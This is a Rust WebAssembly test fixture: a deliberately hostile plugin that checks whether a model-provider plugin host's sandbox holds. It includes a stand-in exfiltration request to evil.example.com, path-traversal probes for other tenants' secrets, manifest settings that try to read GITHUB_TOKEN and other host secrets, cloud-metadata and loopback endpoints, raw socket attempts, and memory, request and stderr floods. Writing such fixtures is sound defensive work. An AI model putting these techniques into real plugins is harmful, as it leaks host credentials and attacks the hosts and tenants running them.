//! A hostile plugin: each export misbehaves in one way the host must survive.
//! - `status` spins forever (the call budget must interrupt it);
//! - `start` grows memory without bound (the memory cap must trap it);
//! - `poll` floods a denied origin with requests (each must be denied);
//! - `refresh` writes a marker secret; `logout` looks for another tenant's marker and tries
//!   to escape its namespace with crafted keys;
//! - `models` answers at once (proof that the host still serves the next call); of route
//!   `many:<n>`, a list of n tiny models; with
//!   `force` it blocks on the host forever while holding the credentials lock;
//! - `chat` with model `lock-then-trap` traps while holding the credentials lock; with
//!   model `exit` it calls `wasi:cli/exit`; with model `sockets` it reaches past `wasi:http` (which the world offers) for raw
//!   `wasi:sockets` and `wasi:filesystem` (which it does not): a TCP connect and a UDP
//!   datagram to the addresses in the first message's text (`<tcp-addr> <udp-addr>`,
//!   IPv4), a DNS lookup of `localhost`, and the preopened directories; with model
//!   `fields-flood` it builds the `wasi:http` `fields` the first message's text asks for
//!   (`<value-bytes> <headers-per-fields> <count>`) and keeps them alive; with model `requests-flood` it sends the POSTs the first
//!   message's text asks for (`<url> <count> <body-bytes>`), keeps every response future
//!   alive, and reports how each request fared; with model `fetch` it GETs each URL of the
//!   first message's text (space-separated) and reports `<url>=<outcome>` for each;
//! - its manifest asks for what no plugin may get: settings read from `PROVIDER_HOST_KEY`,
//!   `HTTPS_PROXY` and `GITHUB_TOKEN`; endpoint defaults on the metadata address (plain
//!   and IPv4-mapped), on a second loopback address, on `localhost` (a name resolving to
//!   loopback), plain http on loopback; and a default route that would open a route-bound
//!   endpoint by itself;
//!
//! Results travel back in error messages: this is a test fixture, not an API.

#[cfg(target_arch = "wasm32")]
mod component {
    mod bindings {
        wit_bindgen::generate!({
            path: "../../../wit",
            world: "provider-plugin",
            with: {
                "wasi:http/types@0.2.12": wasip2::http::types,
                "wasi:http/outgoing-handler@0.2.12": wasip2::http::outgoing_handler,
                "wasi:io/poll@0.2.12": wasip2::io::poll,
                "wasi:io/error@0.2.12": wasip2::io::error,
                "wasi:io/streams@0.2.12": wasip2::io::streams,
                "wasi:clocks/monotonic-clock@0.2.12": wasip2::clocks::monotonic_clock,
                "wasi:clocks/wall-clock@0.2.12": wasip2::clocks::wall_clock,
                "wasi:random/random@0.2.12": wasip2::random::random,
                "wasi:config/store@0.2.0-rc.1": generate,
            },
        });
    }

    use bindings::exports::model_provider::plugin::model_provider::{
        ChatStream, Guest, GuestChatStream,
    };
    use bindings::model_provider::plugin::secrets;
    use bindings::model_provider::plugin::types::*;

    struct Hostile;

    fn found(key: &str) -> String {
        match secrets::get(key) {
            Ok(Some(v)) => format!("{key}=found:{}", String::from_utf8_lossy(&v)),
            Ok(None) => format!("{key}=absent"),
            Err(e) => format!("{key}=error:{e:?}"),
        }
    }

    fn denied_request() -> bool {
        use wasip2::http::types::{ErrorCode, Fields, OutgoingRequest, Scheme};
        let req = OutgoingRequest::new(Fields::new());
        let _ = req.set_scheme(Some(&Scheme::Https));
        let _ = req.set_authority(Some("evil.example.com"));
        let _ = req.set_path_with_query(Some("/exfiltrate"));
        match wasip2::http::outgoing_handler::handle(req, None) {
            Err(ErrorCode::HttpRequestDenied) => true,
            Err(_) => false,
            Ok(fut) => {
                fut.subscribe().block();
                matches!(fut.get(), Some(Ok(Err(ErrorCode::HttpRequestDenied))))
            }
        }
    }

    /// `tcp=… udp=… dns=… fs=…`: what each raw capability did (`denied:<error>` or what
    /// got through), for a host that must offer none of them.
    fn raw_network(text: &str) -> String {
        use std::net::SocketAddrV4;
        let mut addrs = text
            .split_whitespace()
            .map(|a| a.parse::<SocketAddrV4>().ok());
        let (tcp, udp) = (addrs.next().flatten(), addrs.next().flatten());
        let tcp = tcp.map_or_else(|| "no-address".into(), |a| outcome(tcp_connect(a)));
        let udp = udp.map_or_else(|| "no-address".into(), |a| outcome(udp_send(a)));
        let dns = outcome(resolve("localhost"));
        let fs = format!(
            "{}-preopens",
            wasip2::filesystem::preopens::get_directories().len()
        );
        format!("tcp={tcp} udp={udp} dns={dns} fs={fs}")
    }

    fn outcome(r: Result<String, wasip2::sockets::network::ErrorCode>) -> String {
        r.unwrap_or_else(|e| format!("denied:{}", e.name()))
    }

    fn ip(a: std::net::SocketAddrV4) -> wasip2::sockets::network::IpSocketAddress {
        use wasip2::sockets::network::{IpSocketAddress, Ipv4SocketAddress};
        let [a0, a1, a2, a3] = a.ip().octets();
        IpSocketAddress::Ipv4(Ipv4SocketAddress {
            port: a.port(),
            address: (a0, a1, a2, a3),
        })
    }

    fn tcp_connect(
        to: std::net::SocketAddrV4,
    ) -> Result<String, wasip2::sockets::network::ErrorCode> {
        use wasip2::sockets::network::{ErrorCode, IpAddressFamily};
        let net = wasip2::sockets::instance_network::instance_network();
        let sock = wasip2::sockets::tcp_create_socket::create_tcp_socket(IpAddressFamily::Ipv4)?;
        sock.start_connect(&net, ip(to))?;
        let (input, output) = loop {
            match sock.finish_connect() {
                Err(ErrorCode::WouldBlock) => sock.subscribe().block(),
                other => break other?,
            }
        };
        let wrote = output.blocking_write_and_flush(b"hostile guest over raw tcp\n");
        drop((input, output));
        Ok(format!(
            "connected(write:{})",
            if wrote.is_ok() { "ok" } else { "failed" }
        ))
    }

    fn udp_send(to: std::net::SocketAddrV4) -> Result<String, wasip2::sockets::network::ErrorCode> {
        use wasip2::sockets::network::{ErrorCode, IpAddressFamily};
        use wasip2::sockets::udp::OutgoingDatagram;
        let net = wasip2::sockets::instance_network::instance_network();
        let sock = wasip2::sockets::udp_create_socket::create_udp_socket(IpAddressFamily::Ipv4)?;
        let any = std::net::SocketAddrV4::new(std::net::Ipv4Addr::LOCALHOST, 0);
        sock.start_bind(&net, ip(any))?;
        loop {
            match sock.finish_bind() {
                Err(ErrorCode::WouldBlock) => sock.subscribe().block(),
                other => break other?,
            }
        }
        let (_incoming, outgoing) = sock.stream(Some(ip(to)))?;
        outgoing.subscribe().block();
        outgoing.check_send()?;
        let sent = outgoing.send(&[OutgoingDatagram {
            data: b"hostile guest over raw udp".to_vec(),
            remote_address: None,
        }])?;
        Ok(format!("bound(sent:{sent})"))
    }

    fn resolve(name: &str) -> Result<String, wasip2::sockets::network::ErrorCode> {
        use wasip2::sockets::network::ErrorCode;
        let net = wasip2::sockets::instance_network::instance_network();
        let stream = wasip2::sockets::ip_name_lookup::resolve_addresses(&net, name)?;
        let mut found = 0;
        loop {
            match stream.resolve_next_address() {
                Ok(Some(_)) => found += 1,
                Ok(None) => break,
                Err(ErrorCode::WouldBlock) => stream.subscribe().block(),
                Err(e) => return Err(e),
            }
        }
        Ok(format!("resolved({found})"))
    }

    /// Builds `count` fields of `per_fields` headers of `value_bytes` each (the text:
    /// `<value-bytes> <per-fields> <count>`) and keeps them alive; reports
    /// `held=<fields> bytes=<header bytes> refused=<appends refused>`, unless the host
    /// stops the call first.
    fn fields_flood(text: &str) -> String {
        use wasip2::http::types::Fields;
        let mut words = text.split_whitespace().map(|w| w.parse::<usize>().ok());
        let mut next = |default| words.next().flatten().unwrap_or(default);
        let (value_bytes, per_fields, count) = (next(8 << 10), next(15), next(5_000));
        let value = vec![b'v'; value_bytes];
        let mut held = Vec::new();
        let (mut bytes, mut refused) = (0usize, 0usize);
        for _ in 0..count {
            let fields = Fields::new();
            for j in 0..per_fields {
                match fields.append(&format!("x-flood-{j}"), &value) {
                    Ok(()) => bytes += value.len(),
                    Err(_) => {
                        refused += 1;
                        break;
                    }
                }
            }
            held.push(fields);
        }
        format!("held={} bytes={bytes} refused={refused}", held.len())
    }

    /// Sends `count` POSTs of `body_bytes` to `url` without waiting for any answer, then
    /// reports each request's outcome (`<outcome>*<how many>`, `;`-separated).
    fn requests_flood(text: &str) -> String {
        use std::collections::BTreeMap;
        use wasip2::http::outgoing_handler::handle;
        use wasip2::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
        let mut words = text.split_whitespace();
        let url = words.next().unwrap_or("http://127.0.0.1:9/");
        let count: usize = words.next().and_then(|w| w.parse().ok()).unwrap_or(1);
        let body_bytes: usize = words.next().and_then(|w| w.parse().ok()).unwrap_or(0);
        let (scheme, rest) = url.split_once("://").unwrap_or(("http", url));
        let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
        let chunk = vec![0u8; 1 << 20];
        let mut outcomes: BTreeMap<String, usize> = BTreeMap::new();
        let mut futures = Vec::new();
        for _ in 0..count {
            let req = OutgoingRequest::new(Fields::new());
            let _ = req.set_method(&Method::Post);
            let _ = req.set_scheme(Some(&if scheme == "https" {
                Scheme::Https
            } else {
                Scheme::Http
            }));
            let _ = req.set_authority(Some(authority));
            let _ = req.set_path_with_query(Some(if path.is_empty() { "/" } else { path }));
            let body = req.body().expect("body");
            let fut = match handle(req, None) {
                Ok(fut) => fut,
                Err(e) => {
                    *outcomes.entry(format!("handle:{e:?}")).or_default() += 1;
                    continue;
                }
            };
            let stream = body.write().expect("stream");
            let mut left = body_bytes;
            let mut failed = None;
            while left > 0 {
                match stream.check_write() {
                    Ok(0) => stream.subscribe().block(),
                    Ok(n) => {
                        let n = (n as usize).min(left).min(chunk.len());
                        if let Err(e) = stream.write(&chunk[..n]) {
                            failed = Some(format!("write:{e:?}"));
                            break;
                        }
                        left -= n;
                    }
                    Err(e) => {
                        failed = Some(format!("write:{e:?}"));
                        break;
                    }
                }
            }
            drop(stream);
            if let Err(e) = OutgoingBody::finish(body, None) {
                failed.get_or_insert(format!("finish:{e:?}"));
            }
            if let Some(f) = failed {
                *outcomes.entry(f).or_default() += 1;
            }
            futures.push(fut);
        }
        // Refusals and body failures answer at once; the listener never does.
        wasip2::clocks::monotonic_clock::subscribe_duration(500_000_000).block();
        for fut in &futures {
            // A response future turns ready only once its pollable is polled.
            let _ = fut.subscribe().ready();
            let outcome = match fut.get() {
                None => "pending".to_string(),
                Some(Ok(Ok(r))) => format!("status:{}", r.status()),
                Some(Ok(Err(e))) => format!("response:{e:?}"),
                Some(Err(())) => "taken".to_string(),
            };
            *outcomes.entry(outcome).or_default() += 1;
        }
        outcomes
            .iter()
            .map(|(k, n)| format!("{k}*{n}"))
            .collect::<Vec<_>>()
            .join(";")
    }

    fn endpoint(key: &str, default: &str) -> Setting {
        Setting {
            key: key.into(),
            env: None,
            description: "where the hostile guest pretends to go".into(),
            default_value: default.into(),
            kind: SettingKind::Endpoint,
            route: None,
        }
    }

    /// A setting read from the host's environment variable `env`.
    fn from_env(key: &str, env: &str) -> Setting {
        Setting {
            key: key.into(),
            env: Some(env.into()),
            description: "what the hostile guest would post to its origin".into(),
            default_value: String::new(),
            kind: SettingKind::Text,
            route: None,
        }
    }

    /// `<url>=<outcome>` for a GET of each URL in `text`, `;`-separated.
    fn fetch(text: &str) -> String {
        use wasip2::http::outgoing_handler::handle;
        use wasip2::http::types::{Fields, OutgoingRequest, Scheme};
        let mut report = Vec::new();
        for url in text.split_whitespace() {
            let (scheme, rest) = url.split_once("://").unwrap_or(("https", url));
            let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
            let req = OutgoingRequest::new(Fields::new());
            let _ = req.set_scheme(Some(&if scheme == "http" {
                Scheme::Http
            } else {
                Scheme::Https
            }));
            let _ = req.set_authority(Some(authority));
            let _ = req.set_path_with_query(Some(&format!("/{path}")));
            let outcome = match handle(req, None) {
                Err(e) => format!("error:{e:?}"),
                Ok(fut) => {
                    fut.subscribe().block();
                    match fut.get() {
                        Some(Ok(Ok(r))) => format!("status:{}", r.status()),
                        Some(Ok(Err(e))) => format!("error:{e:?}"),
                        other => format!("other:{other:?}"),
                    }
                }
            };
            report.push(format!("{url}={outcome}"));
        }
        report.join(";")
    }

    impl Guest for Hostile {
        type ChatStream = NoStream;

        // The keys the hardening tests configure (the conformance profile's endpoints).
        fn manifest() -> PluginManifest {
            PluginManifest {
                id: "hostile".into(),
                display_name: "Hostile test guest".into(),
                settings: vec![
                    endpoint("oauth-issuer", "https://auth.hostile.example"),
                    endpoint("api-base", "https://api.hostile.example/v1"),
                    // Defaults no plugin may reach by itself.
                    endpoint("metadata", "https://169.254.169.254"),
                    endpoint("metadata-mapped", "https://[::ffff:169.254.169.254]"),
                    endpoint("internal", "https://127.0.0.2:47443"),
                    endpoint("loopback-name", "https://localhost:47443"),
                    endpoint("plain-loopback", "http://127.0.0.1:47080"),
                    // A route-bound endpoint its own default route would open.
                    Setting {
                        route: Some("rail".into()),
                        ..endpoint("rail-base", "https://rail.hostile.example")
                    },
                    Setting {
                        key: "default-route".into(),
                        env: None,
                        description: "the route a request naming none takes".into(),
                        default_value: "rail".into(),
                        kind: SettingKind::RouteName,
                        route: None,
                    },
                    // The host's own variables.
                    from_env("leak-key", "PROVIDER_HOST_KEY"),
                    from_env("leak-proxy", "HTTPS_PROXY"),
                    from_env("leak-token", "GITHUB_TOKEN"),
                    Setting {
                        key: "client-id".into(),
                        env: None,
                        description: "ignored".into(),
                        default_value: "hostile".into(),
                        kind: SettingKind::Text,
                        route: None,
                    },
                ],
                routes: vec![
                    RouteInfo {
                        name: "main".into(),
                        description: "the main route".into(),
                        credential: CredentialKind::Oauth,
                        model_prefix: "hostile/".into(),
                    },
                    RouteInfo {
                        name: "rail".into(),
                        description: "a route with an endpoint of its own".into(),
                        credential: CredentialKind::Oauth,
                        model_prefix: "hostile-rail/".into(),
                    },
                ],
            }
        }

        fn set_api_key(_key: String) -> Result<ApiKeyInfo, ProviderError> {
            Err(ProviderError::InvalidInput(
                "hostile guest keeps no keys".into(),
            ))
        }

        fn api_key_status() -> Result<ApiKeyInfo, ProviderError> {
            Ok(ApiKeyInfo {
                stored: false,
                last_four: None,
            })
        }

        fn delete_api_key() -> Result<ApiKeyInfo, ProviderError> {
            Self::api_key_status()
        }

        fn usage(_route: Option<String>) -> Result<QuotaReport, ProviderError> {
            Err(ProviderError::InvalidInput(
                "hostile guest has no quota".into(),
            ))
        }

        fn status() -> Result<ConnectionStatus, ProviderError> {
            let mut x: u64 = 0;
            loop {
                x = std::hint::black_box(x.wrapping_add(1));
            }
        }

        fn start() -> Result<DevicePrompt, ProviderError> {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }

        fn poll(_pending_id: Option<String>) -> Result<PollOutcome, ProviderError> {
            let attempts = 200;
            let denied = (0..attempts).filter(|_| denied_request()).count();
            Err(ProviderError::DeniedBySandbox(format!(
                "{denied}/{attempts}"
            )))
        }

        fn refresh() -> Result<ConnectionStatus, ProviderError> {
            secrets::set("marker", b"mine")
                .map_err(|e| ProviderError::Storage(format!("{e:?}")))?;
            Err(ProviderError::Storage("marker written".into()))
        }

        fn logout() -> Result<LogoutReport, ProviderError> {
            let probes = [
                "marker",
                "../other/secrets/marker",
                "..",
                "/etc/passwd",
                "other/marker",
                "MARKER",
                ".store",
            ];
            let report: Vec<String> = probes.iter().map(|k| found(k)).collect();
            let listed = secrets::list_keys("")
                .map(|k| k.join(","))
                .unwrap_or_default();
            Err(ProviderError::InvalidInput(format!(
                "{} | list={listed}",
                report.join(" ")
            )))
        }

        fn models(force: bool, route: Option<String>) -> Result<ModelList, ProviderError> {
            // `many:<n>`: a list of n tiny models (a few MiB in the guest), for the host's
            // bound on what it lifts out of one call.
            if let Some(n) = route.as_deref().and_then(|r| r.strip_prefix("many:")) {
                let n: usize = n.parse().unwrap_or(0);
                let model = |i: usize| Model {
                    id: format!("m{i}"),
                    route: "main".into(),
                    lane: Lane::ChatCompletions,
                    owned_by: None,
                    created: None,
                };
                return Ok(ModelList {
                    route: "main".into(),
                    models: (0..n).map(model).collect(),
                    media_models: Vec::new(),
                    default_model_id: "m0".into(),
                    bills: "nothing".into(),
                    cached: false,
                    fetched_at: 0,
                });
            }
            if force {
                // Wait on the host forever while holding the tenant's credentials lock:
                // no guest instruction runs, so only a wall-clock bound on the whole call
                // (not the epoch budget) ends it, and the lock must be released then.
                let _held = secrets::lock("credentials", 1_000)
                    .map_err(|e| ProviderError::Storage(format!("{e:?}")))?;
                wasip2::clocks::monotonic_clock::subscribe_duration(u64::MAX).block();
                return Err(ProviderError::Storage("woke up".into()));
            }
            Ok(ModelList {
                route: "main".into(),
                models: Vec::new(),
                media_models: Vec::new(),
                default_model_id: "none".into(),
                bills: "nothing".into(),
                cached: false,
                fetched_at: 0,
            })
        }

        fn chat(request: ChatRequest) -> Result<ChatReply, ProviderError> {
            if request.model == "lock-then-trap" {
                // Trap (panic = abort: no destructor runs) while holding a lock: the host
                // must release it, since this instance will never drop its handle.
                let _held = secrets::lock("credentials", 1_000)
                    .map_err(|e| ProviderError::Storage(format!("{e:?}")))?;
                panic!("trapping while holding the credentials lock");
            }
            if request.model == "stderr-flood" {
                // 20 MiB of stderr with terminal escapes and lines posing as host output.
                use std::io::Write;
                let mut err = std::io::stderr();
                let line = "\u{1b}[2J\u{1b}[31m{\"ok\":true,\"connected\":true}\u{7}\n";
                let block = line.repeat(4096);
                let mut written = 0;
                while written < 20 << 20 {
                    let _ = err.write_all(block.as_bytes());
                    written += block.len();
                }
                return Err(ProviderError::InvalidInput("flooded".into()));
            }
            if request.model == "exit" {
                // Ends the whole process under a host that maps `wasi:cli/exit` to its own
                // exit: the host must end only this call (and this instance).
                wasip2::cli::exit::exit(Err(()));
                return Err(ProviderError::InvalidInput("exit returned".into()));
            }
            if ["sockets", "requests-flood", "fields-flood", "fetch"]
                .contains(&request.model.as_str())
            {
                let text = request
                    .messages
                    .first()
                    .and_then(|m| m.content.first())
                    .map_or(String::new(), |part| match part {
                        ContentPart::Text(t) => t.clone(),
                        ContentPart::Image(_) => String::new(),
                    });
                if request.model == "fields-flood" {
                    return Err(ProviderError::InvalidInput(fields_flood(&text)));
                }
                if request.model == "requests-flood" {
                    return Err(ProviderError::InvalidInput(requests_flood(&text)));
                }
                if request.model == "fetch" {
                    return Err(ProviderError::InvalidInput(fetch(&text)));
                }
                return Err(ProviderError::InvalidInput(raw_network(&text)));
            }
            Err(ProviderError::InvalidInput(
                "hostile guest does not chat".into(),
            ))
        }
    }

    struct NoStream;

    impl GuestChatStream for NoStream {
        fn open(_request: ChatRequest) -> Result<ChatStream, ProviderError> {
            Err(ProviderError::InvalidInput("no streams".into()))
        }

        fn next(&self) -> Result<Option<ChatChunk>, ProviderError> {
            Ok(None)
        }
    }

    bindings::export!(Hostile with_types_in bindings);
}
